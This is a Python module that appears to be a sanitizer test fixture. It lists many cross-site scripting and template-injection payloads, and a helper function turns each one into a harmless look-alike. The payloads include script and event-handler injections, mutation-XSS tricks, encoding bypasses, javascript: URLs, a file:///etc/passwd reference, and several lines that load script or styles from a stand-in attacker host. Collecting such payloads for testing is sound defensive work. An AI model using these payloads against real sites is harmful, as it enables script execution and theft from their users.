"""Texts that try to become markup, each by a known technique, and for each a harmless text of the same shape."""

from __future__ import annotations

import re

# Elements, handlers, ways out of attributes, comments, raw text and templates, links that run, odd spellings, encodings, mutations.
PAYLOADS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>", "<script\x0c>alert(1)</script>", "<script>alert(1)", "</script><script>alert(1)</script>",
    "<script type=module>import('//evil.example/x.js')</script>", "<script nonce=\"\">alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src='x'onerror='alert(1)'>", "<img src=x onerror\n=\nalert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<image src=x onerror=alert(1)>", "<img srcset=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'/></svg>#x\"/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>", "<body onload=alert(1)>", "<body/onpageshow=alert(1)>", "<div style=\"width:expression(alert(1))\">",
    "<style>@import '//evil.example/x.css';</style>", "<x onclick=alert(1)>", "<x contenteditable onblur=alert(1)>x</x>",
    "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href='\x01javascript:alert(1)'>x</a>",
    "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
    "` onmouseover=alert(1) x=`", "x onmouseover=alert(1) ", "\" autofocus onfocus=alert(1) x=\"", "\\\"><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>", "--!><img src=x onerror=alert(1)>", "]]><img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "</title><svg onload=alert(1)>", "</textarea><svg onload=alert(1)>", "</style><svg onload=alert(1)>", "</option></select></datalist><svg onload=alert(1)>",
    "</a></td></tr></table><svg onload=alert(1)>", "</summary></details><svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&amp;lt;svg onload=alert(1)&amp;gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "¼script¾alert(1)¼/script¾", "<\x00script>alert(1)</script>", "<img src=x oneonerrorrror=alert(1)>", "<\u2028script>alert(1)</script>",
    "{{ 7 * 191 }}", "{% set x = 7 * 191 %}{{ x }}", "{{ ''.__class__.__mro__ }}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*191}",
    "';alert(1)//", "\";alert(1)//", "</script><!--", "\\';alert(1)//", "alert(1)//\u2029", "⟦<img src=x onerror=alert(1)>⟧", "⟧⟦<b>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "javascript://evil.example/%0aalert(1)", "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)", "VBSCRIPT\t:msgbox(1)", "blob:https://evil.example/x", "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "//evil.example/x",
    "\\\\evil.example\\x", "file:///etc/passwd", "https:javascript:alert(1)", "http:///javascript:alert(1)",
    "https://evil.example/\" onmouseover=\"alert(1)", "https://evil.example/'><script>alert(1)</script>", "https://evil.example/<svg onload=alert(1)>",
    "https://evil.example/%22onmouseover=%22alert(1)", "https://user:pass@evil.example/\"><img src=x onerror=alert(1)>",
)


def harmless(payload: str) -> str:
    """The same text without a character that means something in HTML, in a template or in a URL's quoting."""
    return re.sub(r"[<>\"'`&{}%#]", "x", payload)
